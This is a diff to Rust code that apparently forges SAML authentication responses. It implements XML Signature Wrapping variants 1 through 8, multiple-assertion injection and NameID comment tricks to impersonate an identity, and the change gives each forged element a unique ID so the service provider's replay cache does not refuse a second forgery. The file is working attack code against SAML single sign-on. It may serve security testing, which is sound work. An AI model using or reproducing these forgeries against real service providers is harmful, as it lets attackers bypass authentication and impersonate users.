@@ -63,8 +63,10 @@ pub const WRONG_ACS: &str = "https://attacker.invalid/sso/acs";
 pub const WRONG_ISSUER: &str = "http://www.okta.com/0oaWRONGISSUER0000";
 /// The suffix `comment-in-nameid` signs after the impersonated identity.
 pub const COMMENT_SUFFIX: &str = ".attacker.invalid";
-pub const EVIL_RESPONSE_ID: &str = "_evil_response_ID";
-pub const EVIL_ASSERTION_ID: &str = "_evil_assertion_ID";
+/// Renamed (evil) elements get this prefix before their original ID, so the
+/// new ID is unique per response: a fixed one would make the SP's replay
+/// cache, not its signature handling, refuse the second forged response.
+pub const EVIL_ID_PREFIX: &str = "_evil_";
 
 impl Fault {
     /// Every fault, with skew shown at a sample value.
@@ -232,7 +234,7 @@ impl Fault {
             Fault::Xsw(n) => xsw(n, signed, identity),
             Fault::MultipleAssertions => {
                 let assertion = assertion_span(signed)?;
-                let evil = evil_copy(&signed[assertion.clone()], identity, Some(EVIL_ASSERTION_ID), true)?;
+                let evil = evil_copy(&signed[assertion.clone()], identity, true, true)?;
                 Ok(insert(signed, assertion.end, &evil))
             }
             Fault::DoctypeEntity => {
@@ -304,20 +306,27 @@ fn replace_identity(fragment: &str, identity: &Identity) -> String {
     out
 }
 
-/// An edited copy of an element: identity replaced, optionally renamed, and
-/// optionally without its first Signature.
-fn evil_copy(
-    element: &str,
-    identity: &Identity,
-    new_id: Option<&str>,
-    strip_signature: bool,
-) -> Result<String, FaultError> {
+/// The ID of the element whose start tag opens `element`.
+fn element_id(element: &str) -> Option<&str> {
+    let tag = &element[..element.find('>')?];
+    let start = tag.find(" ID=\"")? + 5;
+    Some(&tag[start..start + tag[start..].find('"')?])
+}
+
+fn evil_id(element: &str) -> Result<String, FaultError> {
+    Ok(format!("{EVIL_ID_PREFIX}{}", element_id(element).ok_or(FaultError::Shape("ID attribute"))?))
+}
+
+/// An edited copy of an element: identity replaced, optionally renamed to
+/// `_evil_{ID}`, and optionally without its first Signature.
+fn evil_copy(element: &str, identity: &Identity, rename: bool, strip_signature: bool) -> Result<String, FaultError> {
     let mut copy = replace_identity(element, identity);
     if strip_signature && let Ok(signature) = signature_span(&copy) {
         copy = remove(&copy, signature);
     }
-    if let Some(id) = new_id {
-        copy = set_attribute_in_tag(&copy, 0, "ID", id).ok_or(FaultError::Shape("ID attribute"))?;
+    if rename {
+        let id = evil_id(element)?;
+        copy = set_attribute_in_tag(&copy, 0, "ID", &id).ok_or(FaultError::Shape("ID attribute"))?;
     }
     Ok(copy)
 }
@@ -331,7 +340,7 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
             // The Response signature comes right after the Response Issuer, so it
             // is the first Signature in document order.
             let clone = remove(root, signature_span(root)?);
-            let evil = set_attribute_in_tag(&replace_identity(root, identity), 0, "ID", EVIL_RESPONSE_ID)
+            let evil = set_attribute_in_tag(&replace_identity(root, identity), 0, "ID", &evil_id(root)?)
                 .ok_or(FaultError::Shape("Response ID"))?;
             let signature = signature_span(&evil)?;
             let at = if n == 1 { signature.end - "</ds:Signature>".len() } else { signature.start };
@@ -339,13 +348,13 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
         }
         3 => {
             let assertion = assertion_span(root)?;
-            let evil = evil_copy(&root[assertion.clone()], identity, Some(EVIL_ASSERTION_ID), true)?;
+            let evil = evil_copy(&root[assertion.clone()], identity, true, true)?;
             insert(root, assertion.start, &evil)
         }
         4 => {
             let assertion = assertion_span(root)?;
             let original = root[assertion.clone()].to_owned();
-            let evil = evil_copy(&original, identity, Some(EVIL_ASSERTION_ID), true)?;
+            let evil = evil_copy(&original, identity, true, true)?;
             let close = "</saml2:Assertion>";
             let wrapped = format!("{}{}{}", &evil[..evil.len() - close.len()], original, close);
             let without = remove(root, assertion);
@@ -355,7 +364,7 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
         5 => {
             let assertion = assertion_span(root)?;
             let original = root[assertion.clone()].to_owned();
-            let edited = evil_copy(&original, identity, Some(EVIL_ASSERTION_ID), false)?;
+            let edited = evil_copy(&original, identity, true, false)?;
             let unsigned_original = remove(&original, signature_span(&original)?);
             let replaced = format!("{}{}{}", &root[..assertion.start], edited, &root[assertion.end..]);
             let end = replaced.rfind("</saml2p:Response>").ok_or(FaultError::Shape("Response end"))?;
@@ -364,8 +373,7 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
         6 | 8 => {
             let assertion = assertion_span(root)?;
             let original = root[assertion.clone()].to_owned();
-            let new_id = if n == 6 { Some(EVIL_ASSERTION_ID) } else { None };
-            let edited = evil_copy(&original, identity, new_id, false)?;
+            let edited = evil_copy(&original, identity, n == 6, false)?;
             let unsigned_original = remove(&original, signature_span(&original)?);
             let signature = signature_span(&edited)?;
             let at = signature.end - "</ds:Signature>".len();
@@ -375,7 +383,7 @@ fn xsw(n: u8, signed: &str, identity: &Identity) -> Result<String, FaultError> {
         }
         7 => {
             let assertion = assertion_span(root)?;
-            let evil = evil_copy(&root[assertion.clone()], identity, None, true)?;
+            let evil = evil_copy(&root[assertion.clone()], identity, false, true)?;
             insert(root, assertion.start, &format!("<Extensions>{evil}</Extensions>"))
         }
         _ => return Err(FaultError::Shape("XSW variant")),
